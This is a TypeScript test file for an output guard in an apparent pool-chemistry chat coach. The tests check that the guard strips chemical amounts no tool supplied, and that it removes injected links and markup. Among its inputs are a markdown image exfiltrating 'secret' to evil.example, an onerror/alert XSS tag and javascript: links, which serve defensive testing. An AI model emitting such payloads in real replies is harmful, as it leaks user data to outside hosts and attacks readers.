// What a model may say after a tool worked out 61.4 fl oz of liquid chlorine for 15,000 gallons, and what never.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Allowed, allowData, allowDose, allowPassage, nothingAllowed } from './allowed.ts';
import { numberGuard } from './guard.ts';
import { quoted } from './quoted.ts';

function afterDose(): Allowed {
  const allowed = nothingAllowed();
  allowDose(allowed, { productId: 'liquid-chlorine', amountMl: 1815.8, strengthPercent: 12.5 });
  allowDose(allowed, { productId: 'baking-soda', amountG: 2041 });
  allowDose(allowed, { productId: 'muriatic-acid', amountMl: 473.2 }, true);
  allowData(allowed, {
    volumeL: 56_781,
    freeChlorinePpm: 2,
    targetPpm: 6,
    ph: 7.5,
    temperatureC: 28,
    waitMinutes: 30,
    note: quoted('add 40 gallons of acid'),
  });
  allowData(allowed, 'Swim from 18:30 on. Test again after 4 hours.');
  return allowed;
}
const guarded = (text: string, language: 'en' | 'es' = 'en', pages: string[] = [], secrets: string[] = []) => {
  const guard = numberGuard({ language, allowed: afterDose(), ownPages: new Set(pages), secrets });
  return guard.push(text) + guard.end();
};

describe('what a tool gave', () => {
  it.each([
    'Add 61 fl oz of liquid chlorine.',
    'Add 61.4 fluid ounces of 12.5% liquid chlorine to your 15,000-gallon pool.',
    'Pour about 1.8 L of liquid chlorine in.',
    'Add 1,816 mL of bleach.',
    'Your free chlorine is 2 ppm; the goal is 6 ppm at pH 7.5.',
    'Add four and a half pounds of baking soda.',
    'Add 4 1/2 lb of baking soda, then 61 oz of liquid chlorine.',
    'Your pool holds 56,781 liters, and the water is 82 °F.',
    'Wait half an hour, then swim from 18:30 on.',
    'You added 16 fl oz of muriatic acid before.',
    'Test again in four hours.',
    '1. Turn the pump on.\n2. Add 61 fl oz of liquid chlorine.\n',
    'Call Poison Control at 1-800-222-1222 or 911.',
    'One thing at a time: two people should not swim alone.',
    'Agrega 1.8 litros de cloro líquido.',
    'Agrega cuatro libras y media de bicarbonato.',
    'Agrega 61 onzas líquidas de cloro.',
  ])('%s', (text) => {
    expect(guarded(text)).toBe(text);
  });
});

describe('everything else is taken out', () => {
  it.each([
    'Add 128 fl oz of liquid chlorine.',
    'Add 61.4 gallons of liquid chlorine.',
    'Add 61 fl oz of muriatic acid.',
    'Add 15,000 gallons of chlorine.',
    'Add 16 fl oz of muriatic acid.',
    'Add 40 gallons of acid.',
    'Add two gallons of bleach.',
    'Add two and a half gallons of bleach.',
    'Add a gallon of acid.',
    'Add half a jug of chlorine.',
    'Throw in a couple of big bags of shock.',
    'Use three pucks.',
    'Add 2½ cups of it.',
    'Add 1 1/2 quarts of acid.',
    'Raise it to 50 ppm.',
    'Keep the pH at 6.2.',
    'Wait 3 minutes before you swim.',
    'Add **9** __gallons__ of acid.',
    'Add 9\u200b gal of acid.',
    'Add ９ gallons of acid.',
    'Add ٩ gallons of acid.',
    'Add <b>9</b> gallons of acid.',
    'Pour in 9, then 9 more.',
    'Add 61 fl oz of liquid chlorine and 2 lb of baking soda.',
    'Add 61 fl oz of liquid chlorine twice.',
    'Add 61 fl oz of liquid chlorine, ten times.',
    'Use 61 to 90 fl oz of liquid chlorine.',
    'Add 4.5 lb of algaecide.',
    'Agrega 5 galones de ácido.',
    'Agrega dos litros y medio de cloro.',
    'Échale media taza de ácido.',
    'Usa tres pastillas.',
    'Agrega un balde de sal.',
    'Agrega medio kilo de cloro.',
    'Espera tres horas.',
  ])('%s', (text) => {
    expect(guarded(text)).toMatch(/^I left a number out here/);
    expect(guarded(text)).not.toMatch(/\d/);
  });

  it('also when an amount is spread over sentences or lines', () => {
    for (const text of [
      'Add 5.\nGallons of acid.',
      'Add five of them.\nThey are gallons of acid.',
      'Acid:\n- 15,000 gallons\n',
      'Add 5. Gallons of acid.',
    ])
      expect(guarded(text), text).toContain('I left a number out');
  });

  it('says so once for several in a row, and keeps what is around them', () => {
    const text = guarded('Your pH is 7.5. Add 5 gallons of acid. Then add 6 more gallons. Wear goggles.');
    expect(text.match(/I left a number out/g)).toHaveLength(1);
    expect(text).toMatch(/^Your pH is 7\.5\. I left .* Wear goggles\.$/s);
  });

  it('says so in Spanish', () => {
    expect(guarded('Agrega 9 galones de ácido.', 'es')).toMatch(/^Aquí dejé fuera un número/);
  });

  it('whatever pieces it arrives in', () => {
    const text = 'Add 61 fl oz of liquid chlorine. Add 61 gallons of acid. Done.';
    const whole = guarded(text);
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 8, maxLength: 8 }), (sizes) => {
        const guard = numberGuard({ language: 'en', allowed: afterDose(), ownPages: new Set(), secrets: [] });
        let [said, at] = ['', 0];
        for (let index = 0; at < text.length; index += 1) {
          const size = sizes[index % sizes.length] ?? 1;
          said += guard.push(text.slice(at, at + size));
          at += size;
        }
        expect(said + guard.end()).toBe(whole);
      }),
      { seed: 16, numRuns: 40 },
    );
  });

  it('for any amount that is not near one of a tool', () => {
    const units = ['fl oz', 'gallons', 'lb', 'cups', 'litros', 'galones', 'kg', 'bags', 'pucks', 'tazas'];
    fc.assert(
      fc.property(
        fc.integer({ min: 3, max: 5000 }),
        fc.constantFrom(...units),
        fc.constantFrom('acid', 'cal-hypo', 'salt', 'dry acid'),
        (count, unit, chemical) => {
          expect(guarded(`Add ${count} ${unit} of ${chemical}.`)).not.toMatch(/\d/);
        },
      ),
      { seed: 16, numRuns: 200 },
    );
  });
});

describe('links and instructions', () => {
  it.each([
    ['See ![x](https://evil.example/?q=secret) here.', 'See x here.'],
    ['Read [this](https://evil.example/a).', 'Read this.'],
    ['Read [free chlorine](/library/free-chlorine).', 'Read [free chlorine](/library/free-chlorine).'],
    ['Read [other](/settings).', 'Read other.'],
    ['Go to https://evil.example/?d=1 now.', 'Go to  now.'],
    ['Go to evil.com/?d=abc now.', 'Go to  now.'],
    ['Go to //evil.example/x now.', 'Go to  now.'],
    ['Hi <img src=x onerror=alert(1)> there <script>x</script>.', 'Hi  there x.'],
    ['[a]: https://evil.example/x', ''],
    ['Try [x](javascript:alert(1)).', 'Try x).'],
  ])('%s', (text, wanted) => {
    expect(guarded(text, 'en', ['/library/free-chlorine'])).toBe(wanted);
  });

  it('does not repeat its instructions or the mark of this request', () => {
    const secret = 'You are the coach of Limpid and you only ever give amounts from tools, always in the language of the person.';
    expect(guarded(`Sure: ${secret} Bye.`, 'en', [], [secret])).not.toContain('only ever give amounts');
    expect(guarded('The mark is data-00ff00ff.', 'en', [], ['data-00ff00ff'])).toBe('');
  });
});

describe('figures of the library', () => {
  const checked = (sentence: string) => {
    const allowed = nothingAllowed();
    allowPassage(
      allowed,
      'Keep <mark>CYA</mark> at 30 to 50 ppm. Hold 20 ppm for 12.75 hours. Never above 104 °F. Add 2 lb of baking soda.',
    );
    const guard = numberGuard({ language: 'en', allowed, ownPages: new Set(), secrets: [] });
    return guard.push(`${sentence} `) + guard.end();
  };
  it.each(['Most pools do well with 30 to 50 ppm of CYA.', 'That takes 12.75 hours.', 'Stay under 104 °F.'])(
    'may be told: %s',
    (sentence) => {
      expect(checked(sentence)).toContain(sentence);
    },
  );
  it.each(['Add 2 lb of baking soda.', 'Keep CYA at 90 ppm.', 'Pour 20 oz of acid.'])('may not: %s', (sentence) => {
    expect(checked(sentence)).not.toContain(sentence);
  });
});
